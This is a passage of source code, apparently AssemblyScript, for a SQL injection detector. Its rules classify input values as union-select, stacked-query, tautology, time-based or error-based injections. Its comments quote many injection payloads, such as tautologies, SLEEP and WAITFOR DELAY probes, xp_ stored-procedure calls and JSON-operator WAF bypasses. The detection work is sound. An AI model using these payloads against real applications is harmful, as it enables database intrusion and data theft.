  if (t == T_KEYWORD) return wholeWordToken(k, "by") || wholeWordToken(k, "where") || wholeWordToken(k, "having");
  return t == T_WORD && (wholeWordToken(k, "when") || wholeWordToken(k, "then") || wholeWordToken(k, "else"));
}
// The call's arguments from its '(' at token k: a first argument SQL writes (a literal, a variable, a call, a query)
// followed by ')', ',', an operator or a comparison.
function sqlArguments(k: i32): bool {
  if (k + 2 >= ntok) return false;
  const a = tok(k + 1), b = tok(k + 2);
  if (!(a == T_NUMBER || a == T_STRING || a == T_VAR || a == T_SELECT || a == T_SQLFUNC || a == T_FUNC)) return false;
  return b == T_RPAR || b == T_COMMA || b == T_OP || b == T_CMP || b == T_LPAR;
}
// The normalized value's first byte past blanks is c.
function firstByteIs(c: u32): bool {
  const i = skipBlanks(0);
  return i < normLen && nb(i) == c;
}
// After a closed identifier, what continues a query: a list, a comparison, AND/OR, ')', a statement, or a
// clause keyword (x`by|7N= is a password's symbols, not "` BY …").
function sqlAfterIdentifier(): bool {
  const t = tok(1);
  // (A value that opens with the backtick, no name before it, is markdown's code as often: `+(a|b)` …)
  const named = nb(0) != 0x60;
  if (t == T_COMMA || t == T_CMP || t == T_LOGIC || t == T_SEMI || t == T_UNION || t == T_SELECT || (named && (t == T_RPAR || t == T_OP))) return true;
  return t == T_KEYWORD && (wholeWordToken(1, "where") || wholeWordToken(1, "order") || wholeWordToken(1, "group") || wholeWordToken(1, "having") ||
    wholeWordToken(1, "limit") || wholeWordToken(1, "from") || wholeWordToken(1, "into"));
}
// The value's first backtick ends a name: [A-Za-z0-9_.-]* (possibly empty) before it.
function identifierBeforeBacktick(): bool {
  for (let i = 0; i < normLen; i++) {
    const c = nb(i);
    if (c == 0x60) return true;
    if (!(isWordByte(c) || c == 0x2e || c == 0x2d)) return false;
  }
  return false;
}
// Whether the normalized value holds a letter from byte i on.
function letterFrom(i: i32): bool {
  for (; i < normLen; i++) if (isAlpha(nb(i))) return true;
  return false;
}
// The first byte after the application's closing quote (blanks skipped) is a letter: a word operator (LIKE, IS).
function wordAfterClose(): bool { return isAlpha(nb(skipBlanks(closedStringEnd))); }
// Every string literal among tokens [from, to) holds a letter or digit: quoted marks in prose (can be "<", "<=",
// ">") tokenize inside out, with the separators ", " as the literals.
function literalsHoldWords(from: i32, to: i32): bool {
  for (let k = from; k < to; k++) {
    if (tok(k) != T_STRING) continue;
    const q = load<i32>(wordStarts + (<usize>k << 2));
    const quote = nb(q);
    let words = false;
    for (let j = q + 1; j < normLen && nb(j) != quote; j++) if (isWordByte(nb(j))) { words = true; break; }
    if (!words) return false;
  }
  return true;
}
// The calls that programs make too (concat, char, chr, cast, convert: x = convert(schema.body), concat(a, b)) count
// with what injections pass them: a literal, a variable, a query, a type (convert(int, …), cast(… as …)). The
// attack-only functions (sleep, benchmark, extractvalue …) count with any arguments.
function attackCallArguments(k: i32): bool {
  if (!(wholeWordToken(k, "concat") || wholeWordToken(k, "char") || wholeWordToken(k, "chr") || wholeWordToken(k, "cast") || wholeWordToken(k, "convert"))) return true;
  // Names only, one or several separated by commas, then ')': a program's call.
  let m = k + 2;
  while (m + 1 < ntok && tok(m) == T_WORD && tok(m + 1) == T_COMMA) m += 2;
  if (!(m + 1 < ntok && tok(m) == T_WORD && tok(m + 1) == T_RPAR)) return true;
  // convert(int, x): a type first
  return m > k + 2 && (wholeWordToken(k, "convert") || wholeWordToken(k, "cast")) && sqlTypeName(k + 2);
}
function sqlTypeName(k: i32): bool {
  return wholeWordToken(k, "int") || wholeWordToken(k, "varchar") || wholeWordToken(k, "nvarchar") || wholeWordToken(k, "char") || wholeWordToken(k, "bigint") || wholeWordToken(k, "binary");
}
// Token k (a variable) is a system variable: @@version, @@global.x.
function systemVariable(k: i32): bool { const s = load<i32>(wordStarts + (<usize>k << 2)); return nb(s + 1) == 0x40; }
// The calls that read the server's version inside string functions, as blind injection does one character at a
// time: ascii(substring(version() …)), LENGTH(compress(version())), conv(hex(substr(version() FROM 1 FOR 2)),16,10).
// version() alone, or inside any other call (print(version())), is a program's.
const VERSION_READERS: StaticArray<string> = ["ascii", "ord", "substring", "substr", "mid", "left", "right", "length", "hex", "conv", "compress", "uncompress", "concat", "concat_ws", "char_length"];
function versionReadByString(k: i32): bool {
  // k: the word "version" before "()"; k - 1 the '(' of the call around it, k - 2 that call's name
  if (k < 2 || tok(k - 1) != T_LPAR || !(tok(k - 2) == T_FUNC || tok(k - 2) == T_SQLFUNC)) return false;
  for (let j = 0; j < VERSION_READERS.length; j++) if (wholeWordToken(k - 2, unchecked(VERSION_READERS[j]))) return true;
  return false;
}
// floor(rand(0)*2): the duplicate key of MySQL's error-based "double query" injection (GROUP BY that key).
function floorRandKey(k: i32): bool {
  return k + 9 < ntok && wholeWordToken(k, "floor") && tok(k + 1) == T_LPAR && tok(k + 2) == T_FUNC && wholeWordToken(k + 2, "rand") && tok(k + 3) == T_LPAR &&
    tok(k + 4) == T_NUMBER && tok(k + 5) == T_RPAR && tok(k + 6) == T_OP && tok(k + 7) == T_NUMBER && tok(k + 8) == T_RPAR;
}
// Word token k names one of SQL Server's system or extended stored procedures (sp_…, xp_…).
function storedProcedureName(k: i32): bool {
  const s = load<i32>(wordStarts + (<usize>k << 2));
  return (nb(s) == 0x73 || nb(s) == 0x78) && nb(s + 1) == 0x70 && nb(s + 2) == 0x5f && isWordByte(nb(s + 3));
}

// ---- SQL expressions over the tokens ----------------------------------------------------------------------
// A small grammar for what an injected condition is made of: operands (literals, @variables, columns, calls,
// parenthesized lists) joined by comparisons, AND/OR/XOR, arithmetic and MySQL's word operators (DIV, MOD,
// [NOT] LIKE/REGEXP/BETWEEN/IN, SOUNDS LIKE, IS [NOT] NULL), with unary - + ~ ! NOT BINARY before an operand.
// Prose is no expression: two words in a row end it.
// What the last expression read held: a comparison, AND/OR/XOR, a literal or variable operand.
const EX_CMP: u32 = 1, EX_LOGIC: u32 = 2, EX_LITERAL: u32 = 4;
let exprFlags: u32 = 0;
// The length in tokens of a binary operator at token k (0: none).
function binaryOperatorAt(k: i32): i32 {
  if (k >= ntok) return 0;
  const t = tok(k);
  if (t == T_CMP) { exprFlags |= EX_CMP; return 1; }
  if (t == T_LOGIC) { exprFlags |= EX_LOGIC; return 1; }
  if (t == T_OP) return 1;
  if (t == T_KEYWORD && wholeWordToken(k, "not") && k + 1 < ntok && tok(k + 1) == T_CMP) { exprFlags |= EX_CMP; return 2; } // NOT LIKE, NOT IN
  if (t == T_WORD && (wholeWordToken(k, "div") || wholeWordToken(k, "mod"))) return 1;
  if (t == T_WORD && wholeWordToken(k, "sounds") && k + 1 < ntok && tok(k + 1) == T_CMP) { exprFlags |= EX_CMP; return 2; }
  return 0;
}
// The token after the operand at k, or -1. `literal`: only literals and calls on literals (no column, no variable).
function sqlOperandEnd(k: i32, literal: bool, depth: i32): i32 {
  while (k < ntok && (tok(k) == T_OP || (tok(k) == T_KEYWORD && wholeWordToken(k, "not")) || (tok(k) == T_WORD && wholeWordToken(k, "binary") && k + 1 < ntok && tok(k + 1) != T_CMP))) k++;
  if (k >= ntok) return -1;
  const t = tok(k);
  if (t == T_NUMBER || t == T_STRING) { exprFlags |= EX_LITERAL; return k + 1; }
  if (t == T_KEYWORD && wholeWordToken(k, "null")) { exprFlags |= EX_LITERAL; return k + 1; }
  if (t == T_VAR) { if (literal && !systemVariable(k)) return -1; exprFlags |= EX_LITERAL; return k + 1; } // @@version: the server's constant
  if ((t == T_FUNC || t == T_SQLFUNC) && k + 1 < ntok && tok(k + 1) == T_LPAR) return sqlListEnd(k + 1, literal, depth);
  if (t == T_LPAR) return sqlListEnd(k, literal, depth);
  // a column (a slug joined by hyphens, <your-session-token>, is a name, not a subtraction)
  if (t == T_WORD && !literal && !hyphenJoinedAt(k) && !(k + 1 < ntok && tok(k + 1) == T_WORD)) return k + 1;
  return -1;
}
// From the '(' at k: expressions separated by commas up to the matching ')'; the token after it, or -1.
function sqlListEnd(k: i32, literal: bool, depth: i32): i32 {
  if (depth >= 8) return -1;
  k++;
  if (k < ntok && tok(k) == T_RPAR) return k + 1;
  while (k < ntok) {
    k = sqlExprEnd(k, literal, depth + 1);
    if (k < 0 || k >= ntok) return -1;
    if (tok(k) == T_RPAR) return k + 1;
    if (tok(k) != T_COMMA) return -1;
    k++;
  }
  return -1;
}
// The token after the expression starting at k, or -1.
function sqlExprEnd(k: i32, literal: bool, depth: i32 = 0): i32 {
  k = sqlOperandEnd(k, literal, depth);
  while (k > 0 && k < ntok) {
    const op = binaryOperatorAt(k);
    if (op == 0) break;
    const next = sqlOperandEnd(k + op, literal, depth); // (IS NOT NULL: NOT is the operand's unary)
    if (next < 0) return -1;
    k = next;
  }
  return k;
}
// After OR/AND/XOR somewhere in the expression: constants compared (8=3, 1+2=3+4, COS(PI())=-1, 'a' LIKE 'a',
// 1 NOT BETWEEN 0 AND 1) - a condition that never depends on the row, which applications do not write and
// boolean-blind injection does.
function literalComparisonAfterLogic(from: i32, to: i32): bool {
  for (let k = from; k < to; k++) {
    if (tok(k) != T_LOGIC) continue;
    let m = k + 1;
    while (m < to && tok(m) == T_LPAR) m++;
    // each operand of the comparison whole, parentheses included, from k + 1 or a '(' opened after it
    for (let s = k + 1; s <= m; s++) {
      const saved = exprFlags;
      exprFlags = 0;
      const l = sqlOperandChain(s, to);
      if (l > s && l < to && binaryCmpAt(l)) {
        const r = sqlOperandChain(l + (tok(l) == T_CMP ? 1 : 2), to);
        if (r > 0 && (r == to || tok(r) == T_LOGIC || tok(r) == T_RPAR || tok(r) == T_COMMENT || tok(r) == T_SEMI)) { exprFlags = saved; return true; }
      }
      exprFlags = saved;
    }
  }
  return false;
}
// Whether a token of kind t is among the value's tokens.
function tokenPresent(t: u8): bool {
  for (let k = 0; k < ntok; k++) if (tok(k) == t) return true;
  return false;
}
// Literal operands compared from token k: 1=1, 'a'='a' (WHERE 1=1 after a number).
function literalComparisonAt(k: i32): bool {
  const l = sqlOperandChain(k, ntok);
  return l > k && l < ntok && binaryCmpAt(l) && sqlOperandChain(l + (tok(l) == T_CMP ? 1 : 2), ntok) > 0;
}
@inline function binaryCmpAt(k: i32): bool {
  return tok(k) == T_CMP || (k + 1 < ntok && tok(k + 1) == T_CMP && ((tok(k) == T_KEYWORD && wholeWordToken(k, "not")) || (tok(k) == T_WORD && wholeWordToken(k, "sounds"))));
}
// Literal operands joined by arithmetic (no comparison, no logic): the token after them, or -1.
function sqlOperandChain(k: i32, to: i32): i32 {
  k = sqlOperandEnd(k, true, 0);
  while (k > 0 && k < to && (tok(k) == T_OP || (tok(k) == T_WORD && (wholeWordToken(k, "div") || wholeWordToken(k, "mod"))))) k = sqlOperandEnd(k + 1, true, 0);
  return k;
}

@inline function isOperand(t: u8): bool { return t == T_STRING || t == T_NUMBER || t == T_WORD || t == T_VAR || t == T_FUNC || t == T_SQLFUNC || t == T_LPAR; }
@inline function isStmtStart(t: u8): bool { return t == T_SELECT || t == T_STMT || t == T_SQLFUNC; }

// Structural rules over the fingerprint. `quoted`: the first token is a string the value closed. `anchored`:
// the tokens start at the value's start (a later window of a long value is read by the rules that apply anywhere).
function sqlRules(quoted: bool, anchored: bool = true): string | null {
  if (ntok == 0) return null;
  // The value closes the application's string and ends its statement, nothing after: admin'; (a login probe,
  // CRS 942540). One token before the quote (a user name, an address): in words, a quote after a number is
  // feet or inches ("DRESS WITH HAT 18';"); an apostrophe inside a word (O'Brien;) leaves a word after it.
  if (quoted && ntok == 2 && tok(1) == T_SEMI && wordBeforeQuote()) return "sqli:string-terminated";
  // Anywhere: UNION [ALL|DISTINCT] [(] SELECT, and attack-only SQL functions called (sleep(, extractvalue(, …).
  for (let k = 0; k < ntok; k++) {
    const t = tok(k);
    if (t == T_UNION) {
      let m = k + 1;
      while (m < ntok && (tok(m) == T_KEYWORD || tok(m) == T_LPAR || tok(m) == T_COMMENT)) m++;
      if (m < ntok && tok(m) == T_SELECT) return "sqli:union-select";
    }
    if (t == T_SEMI && k + 1 < ntok && isStmtStart(tok(k + 1)) && k > 0 && statementShape(k + 1)) return "sqli:stacked-query";
    // WAITFOR DELAY '0:0:5' and friends: an attack-only function word, a word, then a literal.
    if (t == T_SQLFUNC && k + 2 < ntok && tok(k + 1) == T_WORD && tok(k + 2) == T_STRING && wholeWordToken(k, "waitfor") && (wholeWordToken(k + 1, "delay") || wholeWordToken(k + 1, "time"))) return "sqli:function";
    if (t == T_SQLFUNC && k + 1 < ntok && tok(k + 1) == T_LPAR) {
      // Preceded by anything SQL-shaped (a logic operator, a closed string, a statement, an operator or ';').
      if ((k == 0 ? !proseAfterCall(k + 1) : (tok(k - 1) == T_LOGIC || tok(k - 1) == T_SEMI || tok(k - 1) == T_OP || tok(k - 1) == T_SELECT ||
          tok(k - 1) == T_CMP || tok(k - 1) == T_LPAR || tok(k - 1) == T_COMMA || (k == 1 && quoted))) && attackCallArguments(k)) return "sqli:function";
      // After a clause word (ORDER BY SLEEP(5), WHERE, HAVING, CASE … THEN pg_sleep(5) ELSE …) with arguments as SQL
      // writes them ("ranked by benchmark(s) from 2019", "then sleep(8 hours)" are prose).
      if (k > 0 && clauseWordBefore(k - 1) && sqlArguments(k + 1)) return "sqli:function";
    }
    // CASE WHEN 1=1 THEN … | CASE 5832 WHEN 5832 THEN …: a conditional expression (sqlmap's boolean-blind probes).
    // A comparison with a literal before THEN: "in case when you need it" and "case when price is high then" are prose.
    if (t == T_KEYWORD && k + 4 < ntok && wholeWordToken(k, "case")) {
      const w = tok(k + 1);
      if ((w == T_WORD || w == T_FUNC) && wholeWordToken(k + 1, "when") && caseCondition(k + 2)) return "sqli:case-when";
      if ((w == T_NUMBER || w == T_STRING) && tok(k + 2) == T_WORD && wholeWordToken(k + 2, "when") && (tok(k + 3) == T_NUMBER || tok(k + 3) == T_STRING) &&
          tok(k + 4) == T_WORD && wholeWordToken(k + 4, "then")) return "sqli:case-when";
    }
    // SELECT <column list> FROM …: select followed by '*', a function, a number, a variable, or "x ,"
    // (SELECT DISTINCT: the list after it)
    if (t == T_SELECT && k + 1 < ntok) {
      const d = k + 2 < ntok && tok(k + 1) == T_KEYWORD && wholeWordToken(k + 1, "distinct") ? k + 1 : k;
      const a = tok(d + 1);
      if ((a == T_OP && !hyphenJoinedAt(d)) || a == T_NUMBER || a == T_VAR || a == T_FUNC || a == T_SQLFUNC || a == T_LPAR) return "sqli:select";
      // select 'a' | select "x", 1 | select 'a' from …: a literal that holds a word or number, then the end or SQL (in
      // a JSON text or a list of quoted words, "select" is followed by the quotes between items: ",")
      if (a == T_STRING && literalsHoldWords(d + 1, d + 2) && (d + 2 >= ntok || tok(d + 2) == T_COMMA || tok(d + 2) == T_KEYWORD || tok(d + 2) == T_RPAR ||
          tok(d + 2) == T_COMMENT || tok(d + 2) == T_SEMI || tok(d + 2) == T_OP || tok(d + 2) == T_CMP || tok(d + 2) == T_LOGIC || tok(d + 2) == T_UNION)) return "sqli:select";
      // (SELECT TOP 1 …) and SELECT TOP 1 * (SQL Server's row limit; "Select top 5" alone is a menu's label)
      if (a == T_WORD && d + 2 < ntok && wholeWordToken(d + 1, "top") && tok(d + 2) == T_NUMBER && ((k > 0 && tok(k - 1) == T_LPAR) || (d + 3 < ntok && tok(d + 3) == T_OP))) return "sqli:select";
      // select x, … | select x from t | (select id from users limit 1,1) | select x from t where …
      if (a == T_WORD && d + 2 < ntok && (tok(d + 2) == T_COMMA || (tok(d + 2) == T_KEYWORD && d + 3 < ntok && tok(d + 3) == T_WORD &&
          (d + 4 >= ntok || (tok(d + 4) == T_KEYWORD && d + 5 < ntok) || tok(d + 4) == T_RPAR || tok(d + 4) == T_COMMENT || tok(d + 4) == T_SEMI)))) return "sqli:select";
      // select id-0 from users | (select login/2 from users limit 1,1): a computed column, then FROM a table
      // (words joined by hyphens are a slug: "select one-two from the list")
      if (a == T_WORD && d + 4 < ntok && tok(d + 2) == T_OP && !hyphenJoinedAt(d + 1)) {
        exprFlags = 0;
        const e = sqlExprEnd(d + 1, false);
        if (e > d + 2 && e + 1 < ntok && tok(e) == T_KEYWORD && wholeWordToken(e, "from") && tok(e + 1) == T_WORD) return "sqli:select";
      }
    }
    if (t == T_FUNC && k + 2 < ntok && tok(k + 1) == T_LPAR && tok(k + 2) == T_RPAR && wholeWordToken(k, "version") && versionReadByString(k)) return "sqli:version-probe";
    if (t == T_FUNC && floorRandKey(k)) return "sqli:error-based";
    // IIF(3760=4785,1,1/0): Access's and SQL Server's conditional on two constants (a boolean-blind probe; a
    // report's formula compares a field).
    if (t == T_FUNC && k + 5 < ntok && tok(k + 1) == T_LPAR && tok(k + 2) == T_NUMBER && tok(k + 3) == T_CMP && tok(k + 4) == T_NUMBER && tok(k + 5) == T_COMMA &&
        wholeWordToken(k, "iif")) return "sqli:conditional-probe";
    // SELECT x GROUP BY y HAVING COUNT(id) >= 9: a grouped query and its condition (prose groups nothing "having >=")
    if (t == T_SELECT && k + 6 < ntok && tok(k + 1) == T_WORD) {
      for (let h = k + 2; h + 2 < ntok; h++) {
        if (tok(h) != T_KEYWORD || !wholeWordToken(h, "having")) continue;
        exprFlags = 0;
        const e = sqlExprEnd(h + 1, false);
        if (e > h + 2 && (exprFlags & EX_CMP) != 0 && groupByBefore(k + 2, h)) return "sqli:select";
        break;
      }
    }
    // (SELECT x WHERE 9107=9107 AND 1158=5011): a query without FROM whose condition compares constants.
    if (t == T_SELECT && k + 3 < ntok && tok(k + 1) == T_WORD && tok(k + 2) == T_KEYWORD && wholeWordToken(k + 2, "where") && literalComparisonAt(k + 3)) return "sqli:select";
    // SELECT current_user; | select session_user -- : the session's identity, named without parentheses (a button
    // reads "Select user", never a name with an underscore).
    if (t == T_SELECT && k + 1 < ntok && tok(k + 1) == T_WORD && (k + 2 == ntok || tok(k + 2) == T_SEMI || tok(k + 2) == T_COMMENT ||
        (tok(k + 2) == T_KEYWORD && wholeWordToken(k + 2, "from"))) && sessionIdentityName(k + 1)) return "sqli:select";
    // EXEC sp_addlogin …, EXECUTE xp_regread …: a stored procedure of SQL Server's by its prefix.
    if (t == T_STMT && k + 1 < ntok && tok(k + 1) == T_WORD && (wholeWordToken(k, "exec") || wholeWordToken(k, "execute")) && storedProcedureName(k + 1)) return "sqli:stored-procedure";
  }
  if (!anchored) return null;
  const t0 = tok(0);
  if (quoted) {
    // The value closed the application's string: what follows must look like SQL, not prose.
    if (ntok == 1) return null;
    const t1 = tok(1);
    if (t1 == T_COMMENT) return "sqli:string-comment";                 // admin'--
    if (t1 == T_SEMI && ntok > 2) return "sqli:string-semicolon";      // '; drop …
    if (t1 == T_STMT && ntok > 3 && tok(ntok - 1) == T_COMMENT) return "sqli:string-statement"; // ' insert into … --
    // ' DELETE FROM users | ' drop table x; | ' UPDATE users SET a=… : a statement with its object, at the end or
    // before WHERE, ';', a comment (a quoted "delete from cart" in prose is followed by its closing quote).
    if (t1 == T_STMT) {
      const h = statementObjectEnd(1);
      if (h > 0 && (h == ntok || tok(h) == T_SEMI || tok(h) == T_COMMENT || (tok(h) == T_KEYWORD && wholeWordToken(h, "where")) ||
        (h + 1 < ntok && tok(h) == T_WORD && tok(h + 1) == T_CMP && wholeWordToken(1, "update")))) return "sqli:string-statement";
    }
    if (t1 == T_RPAR) { // ') or ('1'='1  |  ')) or (('1'='1
      let m = 2;
      while (m < ntok && tok(m) == T_RPAR) m++;
      if (m < ntok && (tok(m) == T_LOGIC || tok(m) == T_COMMENT || tok(m) == T_SEMI || tok(m) == T_UNION)) return "sqli:string-paren";
    }
    // ' union select … | ' union-- (a quoted "UNION" followed by words is a search phrase: "UNION" BY ROBERT)
    if (t1 == T_UNION && (ntok == 2 || tok(2) == T_SELECT || tok(2) == T_LPAR || tok(2) == T_COMMENT || tok(2) == T_SEMI)) return "sqli:string-keyword";
    if (t1 == T_SELECT || (t1 == T_KEYWORD && ntok > 2 && tok(2) == T_KEYWORD)) return "sqli:string-keyword"; // ' order by 1
    if (t1 == T_KEYWORD && ntok > 3) { // ' having 1=1--  |  ' limit 1 --
      // An operand between the keyword and the comparison, or NOT LIKE / NOT REGEXP: "AS IS" (a licence) is no clause.
      for (let k = 2; k < ntok; k++) if ((tok(k) == T_CMP && (k > 2 || wordTokenIs(1, "not"))) || (k > 2 && (tok(k) == T_COMMENT || tok(k) == T_SEMI))) return "sqli:string-clause";
    }
    if (t1 == T_LOGIC && ntok > 4 && tok(2) == T_LPAR) {
      // ' and(1=1)--  |  ' or ((1)=(1)) : the clause in parentheses
      let m = 2;
      while (m < ntok && tok(m) == T_LPAR) m++;
      if (m + 1 < ntok && isOperand(tok(m))) {
        let r = m + 1;
        while (r < ntok && tok(r) == T_RPAR) r++;
        if (r < ntok && tok(r) == T_CMP) return "sqli:string-tautology";
      }
    }
    if (t1 == T_LOGIC && ntok > 2) {
      // ' or 1=1 --  |  ' or 'a'='a  |  ' and sleep(5)  |  ' or true--  |  ' or 1 --
      const t2 = tok(2);
      // ' or '1 (the application closes the last quote) — but not she said "or" not 'and' (words in it).
      // A closed literal there ("… and 'strong'") would leave the application's quote dangling: not SQL; nor a
      // quoted word ('and') or words (" not 'and'").
      if (ntok == 3) return (t2 == T_STRING && lastStringOpen && !lastStringOpenProse && lastStringAfterSpace) || t2 == T_NUMBER ? "sqli:string-tautology" : null;
      if (ntok == 4 && t2 == T_STRING && (tok(3) == T_WORD || tok(3) == T_NUMBER) && misquotedTautology(2)) return "sqli:string-tautology";
      if (isOperand(t2) || t2 == T_KEYWORD) {
        const t3 = tok(3);
        if (t3 == T_CMP || t3 == T_COMMENT || t3 == T_SEMI || t3 == T_OP || t3 == T_LPAR || t3 == T_LOGIC) return "sqli:string-tautology";
        // ' or 1 group by concat(version(),floor(rand(0)*2))having min(0) -- : a clause after the condition
        if ((t2 == T_NUMBER || t2 == T_STRING) && t3 == T_KEYWORD && ntok > 5 && tok(4) == T_KEYWORD && (wholeWordToken(3, "group") || wholeWordToken(3, "order")) && wholeWordToken(4, "by")) return "sqli:string-clause";
        if (t2 == T_FUNC || t2 == T_SQLFUNC) return "sqli:string-function";
      }
    }
    // '='  |  '<>'x' or…  (a quoted "IS" or "LIKE" then a plain word ends a search phrase: "LIKE" STAMP, "IS" STAMP: a
    // word operator and a string left open that holds words; A '=' B stays SQL)
    if (t1 == T_CMP && ntok > 2 && isOperand(tok(2)) && ((ntok == 3 && tok(2) != T_WORD && !(tok(2) == T_STRING && lastStringOpenProse && wordAfterClose())) || (ntok > 3 && (tok(3) == T_COMMENT || tok(3) == T_LOGIC)))) return "sqli:string-compare";
    if (t1 == T_OP && ntok > 2 && (tok(2) == T_SQLFUNC || tok(2) == T_SELECT || tok(2) == T_LPAR)) return "sqli:string-concat";
    // ',api_token='x' where id=1;-- - : another column set in an UPDATE, then its own WHERE or a comment
    if (t1 == T_COMMA && ntok > 5 && tok(2) == T_WORD && tok(3) == T_CMP && (tok(4) == T_STRING || tok(4) == T_NUMBER || tok(4) == T_SELECT || tok(4) == T_LPAR)) {
      for (let k = 5; k < ntok; k++) if ((tok(k) == T_KEYWORD && wholeWordToken(k, "where")) || (k == ntok - 1 && tok(k) == T_COMMENT)) return "sqli:string-assignment";
    }
    // An operator right after the quote, then an expression with a comparison or AND/OR that reopens a string
    // at its end (the application's quote closes it) or ends in a comment: aa' LIKE md5(1) or '1 |
    // X' = 'X' = 0 = '1 | asd"or-1="-1 | aa'=('aa')#. Prose has words in a row, or no operator after the quote.
    if (ntok >= 4 && binaryOperatorAt(1) > 0) {
      exprFlags = 0;
      const e = sqlExprEnd(0, false);
      if (e > 2 && (exprFlags & (EX_CMP | EX_LOGIC)) != 0 && literalsHoldWords(1, e) &&
          ((e == ntok && tok(ntok - 1) == T_STRING && lastStringOpen && !lastStringOpenProse) || (e < ntok && (tok(e) == T_COMMENT || tok(e) == T_SEMI)))) return "sqli:string-expression";
    }
    // The closed string as the operand, then the application's parentheses or a clause: x') order by 1-- |
    // x")) where 5397=5397 or 9407=9407--
    if (t1 == T_RPAR || t1 == T_KEYWORD) return afterOperand(0, 1);
    // A full-text search closed the same way: x' IN BOOLEAN MODE) AND 5725=5552#
    if (t1 == T_CMP && ntok > 5 && tok(4) == T_RPAR && wholeWordToken(1, "in") && wholeWordToken(2, "boolean") && wholeWordToken(3, "mode")) return afterOperand(0, 4);
    return null;
  }
  // A literal worked on by PostgreSQL's JSON operators or cast to json, on its own or after AND/OR:
  // '{"a":{"b":1}}'::json #>> '{a,b}' | OR '{"n":"x"}' ?| array['a'] ('#>>', '::jsonb' and '?|' are nothing but SQL).
  if (sawJsonOp && ntok >= 3 && (t0 == T_STRING || (t0 == T_LOGIC && tok(1) == T_STRING))) return "sqli:json-operator";
  // A bare boolean clause to be appended: or 1=1 | or 0=0 -- | and 'a'='a' | or '[1,2]'::json ->> 1 = '2' (literals
  // joined by operators: PostgreSQL's JSON operators are the known way around WAFs that know only '=') |
  // or json_extract('{…}', '$.name') = 'x'.
  // or true-- | or 1# : OR with a literal truth, then a comment cutting the rest of the query.
  // (Nothing but marks after the comment: "or 2 -- thanks" is a reply.)
  if (t0 == T_LOGIC && ntok == 3 && tok(1) == T_NUMBER && tok(2) == T_COMMENT && bareCommentTail()) return "sqli:bare-tautology";
  if (t0 == T_LOGIC && ntok >= 4) {
    const g = tok(1) == T_KEYWORD && wholeWordToken(1, "not") ? 2 : 1; // or not 5832=5832
    let m = literalChain(g);
    if (m < 0 && (tok(g) == T_WORD || tok(g) == T_FUNC || tok(g) == T_SQLFUNC) && tok(g + 1) == T_LPAR) { m = closingParen(g + 1); if (m > 0) m++; }
    if (m > 0 && m < ntok && tok(m) == T_CMP) {
      let r = literalChain(m + 1);
      // or 'a' in ('a'): a literal list in parentheses
      if (r < 0 && m + 2 < ntok && tok(m + 1) == T_LPAR) { r = literalChain(m + 2); if (r > 0 && r < ntok && tok(r) == T_RPAR) r++; else r = -1; }
      if (r > 0 && (r == ntok || tok(r) == T_COMMENT || tok(r) == T_LOGIC || tok(r) == T_SEMI)) return "sqli:bare-tautology";
    }
  }
  // A clause in parentheses broken out of: ) or ('a'='a | )) or ((1=1 (the application closes the rest).
  if (t0 == T_RPAR) {
    let m = 1;
    while (m < ntok && tok(m) == T_RPAR) m++;
    if (m + 3 < ntok && tok(m) == T_LOGIC) {
      let q = m + 1;
      while (q < ntok && tok(q) == T_LPAR) q++;
      if (q > m + 1 && q + 1 < ntok && (tok(q) == T_STRING || tok(q) == T_NUMBER || tok(q) == T_WORD) && tok(q + 1) == T_CMP) return "sqli:paren-tautology";
    }
  }
  // The whole value one condition that compares constants after AND/OR: HOPE AND 8=3 | PI() AND COS(PI())=-1 |
  // (1 AND 1) OR 2>1-- | 1 AND 1 SOUNDS LIKE 1 | FOO) AND 4499=8923# (a parenthesis of the query closed first).
  // (Only a value with a comparison and AND/OR is parsed: most values reaching here have neither.)
  if (ntok >= 4 && tokenPresent(T_CMP) && tokenPresent(T_LOGIC)) {
    let s0 = 0;
    exprFlags = 0;
    const o = sqlOperandEnd(0, false, 0);
    if (o > 0 && o < ntok && tok(o) == T_RPAR) { s0 = o; while (s0 < ntok && tok(s0) == T_RPAR) s0++; }
    if (t0 == T_LOGIC) s0 = 0; // AND CONNECTION_ID()=CONNECTION_ID() | OR ISNULL(1/0)=1: the condition alone
    exprFlags = 0;
    const e = s0 > 0 || t0 == T_LOGIC ? (s0 < ntok && tok(s0) == T_LOGIC ? sqlExprEnd(s0 + 1, false) : -1) : sqlExprEnd(0, false);
    const end = e == ntok ? ntok : e > 0 && e == ntok - 1 && (tok(e) == T_COMMENT || tok(e) == T_SEMI) ? e : -1;
    if (end > 0 && (s0 > 0 || t0 == T_LOGIC || (exprFlags & EX_LOGIC) != 0) && literalComparisonAfterLogic(s0, end)) return "sqli:constant-condition";
  }
  // A column list injected before FROM: * from wp_users-- - | * from users where 1=1 (the application's SELECT
  // takes it; "* from the team" is prose).
  if (ntok >= 4 && t0 == T_OP && firstByteIs(0x2a) && tok(1) == T_KEYWORD && wholeWordToken(1, "from") && tok(2) == T_WORD &&
      (tok(3) == T_COMMENT || (tok(3) == T_KEYWORD && wholeWordToken(3, "where")))) return "sqli:column-list";
  // A parenthesized condition closed by a bare comment: ( 1 OR 1 ) -- | ( COS ( 'a' OR @a) ) -- (a clause the
  // application's parentheses hold, the rest of its query cut).
  if (t0 == T_LPAR && ntok >= 5 && tok(ntok - 1) == T_COMMENT && bareCommentTail()) {
    exprFlags = 0;
    const e = sqlExprEnd(0, false);
    // (a literal or a variable among the operands: "(yes or no) --" is words)
    if (e == ntok - 1 && (exprFlags & (EX_LOGIC | EX_CMP)) != 0 && (exprFlags & EX_LITERAL) != 0) return "sqli:parenthesized-comment";
  }
  // A name compared with itself after OR/AND: or a=a | or x = x-- | hi or a=a (the column equals itself).
  for (let k = 0; k + 3 < ntok; k++) {
    if (tok(k) == T_LOGIC && tok(k + 1) == T_WORD && tok(k + 2) == T_CMP && tok(k + 3) == T_WORD && sameWordTokens(k + 1, k + 3) &&
        (k + 4 == ntok || tok(k + 4) == T_COMMENT || tok(k + 4) == T_LOGIC || tok(k + 4) == T_SEMI)) return "sqli:self-comparison";
  }
  // A word, then OR/AND and a tautology or a call, then a comment or ';': hi or 1=1 -- | x or isnull(1/0) /* | 'hi' or 'x'='x';
  if (ntok >= 5 && (tok(ntok - 1) == T_COMMENT || tok(ntok - 1) == T_SEMI) && (t0 == T_LOGIC || (tok(1) == T_LOGIC && isOperand(t0)))) {
    const g = t0 == T_LOGIC ? 1 : 2;
    const lc = literalChain(g);
    if (lc > 0 && lc + 1 < ntok && tok(lc) == T_CMP && literalChain(lc + 1) == ntok - 1) return "sqli:tautology-comment";
